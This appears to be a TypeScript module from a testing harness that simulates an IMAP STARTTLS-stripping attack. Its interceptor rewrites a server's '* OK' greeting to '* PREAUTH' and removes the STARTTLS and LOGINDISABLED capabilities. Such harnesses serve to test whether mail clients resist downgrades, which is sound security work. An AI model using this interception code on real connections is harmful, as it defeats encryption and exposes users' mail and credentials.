import type { Attack } from './attack.ts'
import { intercept } from './interception.ts'

/**
 * Greets with PREAUTH in place of OK: "you are logged in", which rules out
 * STARTTLS. Takes the offer of STARTTLS out of the greeting too.
 *
 * @see RFC 9051 §7.1.4, §11.3
 */
export const imapPreauth: Attack = {
  does: 'greet with "* PREAUTH" in place of "* OK", without STARTTLS and LOGINDISABLED',
  start: () =>
    intercept((direction, payload) => {
      const text = payload.toString('latin1')
      if (direction === 'c2s' || !text.startsWith('* OK ')) return payload
      return Buffer.from(
        text.replace('* OK ', '* PREAUTH ').replace(' STARTTLS', '').replace(' LOGINDISABLED', ''),
        'latin1',
      )
    }),
}
